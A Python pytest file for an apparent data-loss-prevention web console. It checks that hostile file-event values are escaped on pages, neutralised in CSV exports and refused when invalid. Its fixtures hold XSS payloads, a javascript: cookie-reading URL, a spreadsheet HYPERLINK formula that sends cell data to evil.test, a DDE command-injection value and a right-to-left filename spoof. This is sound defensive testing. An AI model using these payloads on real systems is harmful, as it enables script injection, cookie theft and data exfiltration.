"""Hostile file-event values through every door (agent, data connection, import) and out through every
page and export that shows them: rendered as text, exported safely, refused with a reason where invalid.

Whoever controls an endpoint or a cloud account writes these names, paths, subjects and URLs.
"""
import csv
import io
import json
import uuid
from datetime import timedelta

import pytest
from sqlalchemy import select

from tests.blueprints.test_agent_api import API, auth, register
from webconsole.domain import connections
from webconsole.extensions import db
from webconsole.models import Device, FileEvent, IngestError, User
from webconsole.models.base import utcnow
from webconsole.store.event_import import import_file

pytestmark = pytest.mark.committed  # the bulk importer loads on a connection of its own

SCRIPT = "<script>alert('x')</script>"
ATTRIBUTE = '"><img src=x onerror=alert(1)>'
FORMULA = '=HYPERLINK("http://evil.test/?"&A1,"Click")'
RTL = "invoice\u202efdp.exe"  # shows as "invoiceexe.pdf" if the override is obeyed
CONTROL = "bell\x07 escape\x1b[31m tab\t line\r\nbreak"
LONG = "L" * 1024
HOSTILE = {
    "fileName": SCRIPT + ".docx",
    "filePath": f"/home/una/{ATTRIBUTE}/",
    "fileOwner": FORMULA,
    "emailSubject": CONTROL,
    "emailSender": "+cmd|' /C calc'!A0",
    "emailRecipients": ["<b>boss</b>@evil.test", "@SUM(1+1)"],
    "tabUrls": ["javascript:alert(document.cookie)"],
    "tabTitles": [ATTRIBUTE],
    "printerName": "-2+3",
    "processName": RTL,
    "exposure": ["ApplicationRead", "OutsideTrustedDomains"],
}
# What must never reach a page unescaped.
RAW = ("<script>alert", "<img src=x", "<b>boss</b>", 'href="javascript:', "onerror=alert(1)>")


def when(days=1):
    return (utcnow() - timedelta(days=days)).isoformat() + "Z"


def event(**changes):
    return {"eventId": str(uuid.uuid4()), "eventType": "EMAILED", "eventTimestamp": when(),
            "fileName": "plain.txt", "filePath": "/home/una/", "deviceUserName": "user@acme.test", **changes}


@pytest.fixture
def doors(app, client, world, make_user, tmp_path):
    """Hostile events stored through the agent API, a data connection and an import file; their ids by door."""
    agent = auth(register(client, app, world).get_json())
    sent = {"agent": event(**HOSTILE), "connection": event(**HOSTILE, deviceUserName=SCRIPT + "@cloud.test"),
            "import": event(**{**HOSTILE, "fileName": FORMULA}),
            "long": event(fileName=LONG, filePath="/" + "p" * 4000 + "/"), "rtl": event(fileName=RTL)}
    assert client.post(f"{API}/file-events", json={"events": [sent["agent"], sent["long"], sent["rtl"]]},
                       headers=agent).status_code == 200
    with app.app_context():
        admin = db.session.get(User, world["admin"])
        connection, _token = connections.create_connection(admin, name=ATTRIBUTE, kind="webhook",
                                                           description=SCRIPT)
        assert connections.ingest(connection, [sent["connection"]])["stored"] == 1
        with pytest.raises(connections.IngestRefused) as refused:
            connections.ingest(connection, [event(eventId=SCRIPT)])
        assert refused.value.details["field"] == "events[0].eventId"
        path = tmp_path / "hostile.jsonl"
        path.write_bytes(json.dumps(sent["import"]).encode() + b"\n" + b'{"fileName": "\xff\xfe"}\n')
        result = import_file(str(path))
        assert (result.stored, result.refused) == (1, 1) and "UTF-8" in result.errors[0][1]
        ids = {door: db.session.scalar(select(FileEvent.id).where(FileEvent.event_id == raw["eventId"]))
               for door, raw in sent.items()}
        device_id = db.session.scalar(select(Device.id).where(Device.hostname == "una-laptop"))
        yield {"ids": ids, "sent": sent, "device": device_id, "connection": connection.id, "user": world["user"]}


def assert_text_only(html, url):
    for raw in RAW:
        assert raw not in html, (url, raw)


def test_every_page_shows_hostile_values_as_text(client, sign_in, doors):
    sign_in("admin@acme.test")
    pages = [
        "/forensic-search/?range=P30D",
        "/forensic-search/?range=P30D&f1=fileName&o1=contains&v1=<script>",
        f"/devices/{doors['device']}",
        f"/devices/file-events/?device={doors['device']}",
        f"/user-activity/?user={doors['user']}",
        "/risk-exposure/",
        "/data-connections/",
        f"/data-connections/{doors['connection']}",
        *(f"/forensic-search/events/{id_}" for id_ in doors["ids"].values()),
    ]
    for url in pages:
        response = client.get(url)
        assert response.status_code == 200, url
        html = response.get_data(as_text=True)
        assert_text_only(html, url)
    details = client.get(f"/forensic-search/events/{doors['ids']['connection']}").get_data(as_text=True)
    assert "&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt;.docx" in details
    assert "&#34;&gt;&lt;img src=x onerror=alert(1)&gt;" in details
    # Invisible controls and direction overrides are marked, so the real name shows ("invoiceexe.pdf" would not).
    assert 'invoice<span class="hidden-char">U+202E</span>fdp.exe' in details
    assert '<span class="event-value">invoice\u202e' not in details
    rtl = f"/forensic-search/events/{doors['ids']['rtl']}"
    page, panel = (client.get(rtl, headers=h).get_data(as_text=True) for h in ({}, {"HX-Request": "true"}))
    assert "<title>invoiceU+202Efdp.exe ·" in page
    assert '<h1>invoice<span class="hidden-char">U+202E</span>fdp.exe</h1>' in page
    assert '<h2 class="event-title">invoice<span class="hidden-char">U+202E</span>fdp.exe</h2>' in panel
    assert 'bell<span class="hidden-char">U+0007</span> escape<span class="hidden-char">U+001B</span>[31m' in details
    # A refused event's id is shown as the sender wrote it, as text.
    connection_page = client.get(f"/data-connections/{doors['connection']}").get_data(as_text=True)
    assert "&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt;" in connection_page


def test_the_full_length_name_and_path_are_kept(app, client, sign_in, doors):
    with app.app_context():
        stored = db.session.get(FileEvent, doors["ids"]["long"])
        assert (len(stored.file_name), len(stored.file_path)) == (1024, 4002)
    sign_in("admin@acme.test")
    assert LONG in client.get(f"/forensic-search/events/{doors['ids']['long']}").get_data(as_text=True)


def test_csv_exports_neutralise_formulas_and_keep_the_text(client, sign_in, doors):
    sign_in("admin@acme.test")
    for url in ("/forensic-search/export.csv?range=P30D", f"/devices/file-events/export.csv?device={doors['device']}",
                f"/user-activity/export.csv?user={doors['user']}"):
        response = client.get(url)
        assert response.status_code == 200 and response.headers["X-Content-Type-Options"] == "nosniff", url
        rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
        cells = [cell for row in rows[1:] for cell in row]
        assert SCRIPT + ".docx" in cells, url  # text stays text: a CSV has no markup to escape
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], url
    forensic = client.get("/forensic-search/export.csv?range=P30D").get_data(as_text=True)
    assert "'" + FORMULA.replace('"', '""') in forensic


def test_the_json_export_gives_back_exactly_what_was_sent(client, sign_in, doors):
    sign_in("admin@acme.test")
    response = client.get("/forensic-search/export.json?range=P30D")
    assert response.status_code == 200 and response.mimetype == "application/json"
    exported = {item["eventId"]: item for item in json.loads(response.get_data(as_text=True))}
    for door in ("agent", "connection", "import"):
        sent, got = doors["sent"][door], exported[doors["sent"][door]["eventId"]]
        for key in ("fileName", "filePath", "fileOwner", "emailSubject", "emailSender", "emailRecipients",
                    "tabUrls", "tabTitles", "printerName", "processName"):
            assert got[key] == sent[key], (door, key)


@pytest.mark.parametrize("bad, field", [
    ({"fileName": "nul\x00byte"}, "fileName"),
    ({"fileName": "x" * 1025}, "fileName"),
    ({"emailRecipients": ["ok", 7]}, "emailRecipients"),
    ({"tabUrls": "javascript:alert(1)"}, "tabUrls"),
    ({"sha256Checksum": "<script>"}, "sha256Checksum"),
])
def test_invalid_values_are_refused_with_the_field_at_every_door(app, client, world, doors, tmp_path, bad, field):
    agent = auth(register(client, app, world, hostname="second").get_json())
    response = client.post(f"{API}/file-events", json={"events": [event(**bad)]}, headers=agent)
    assert response.status_code == 400 and response.get_json()["error"]["field"].startswith(f"events[0].{field}")
    with app.app_context():
        connection = db.session.get(connections.DataConnection, doors["connection"])
        with pytest.raises(connections.IngestRefused) as refused:
            connections.ingest(connection, [event(**bad)])
        assert refused.value.details["field"].startswith(f"events[0].{field}")
        assert db.session.scalars(select(IngestError.message).order_by(IngestError.id.desc())).first() \
            .startswith(f"events[0].{field}")
        path = tmp_path / "bad.jsonl"
        path.write_text(json.dumps(event(**bad)) + "\n", encoding="utf-8")
        result = import_file(str(path))
        assert result.refused == 1 and result.errors[0][0] == 1 and field in result.errors[0][1]


def test_a_lone_surrogate_escape_is_refused_at_every_door(app, client, world, doors, tmp_path):
    agent = auth(register(client, app, world, hostname="third").get_json())
    body = '{"events": [%s]}' % json.dumps(event(fileName="x")).replace('"x"', '"\\ud800"', 1)
    response = client.post(f"{API}/file-events", data=body, headers={**agent, "Content-Type": "application/json"})
    assert response.status_code == 400 and "fileName" in response.get_json()["error"]["field"]
    with app.app_context():
        connection = db.session.get(connections.DataConnection, doors["connection"])
        with pytest.raises(connections.IngestRefused) as refused:
            connections.ingest(connection, json.loads(body)["events"])
        assert refused.value.details["field"] == "events[0].fileName"
        path = tmp_path / "surrogate.jsonl"
        path.write_text(body[len('{"events": ['):-2] + "\n", encoding="utf-8")
        assert import_file(str(path)).refused == 1
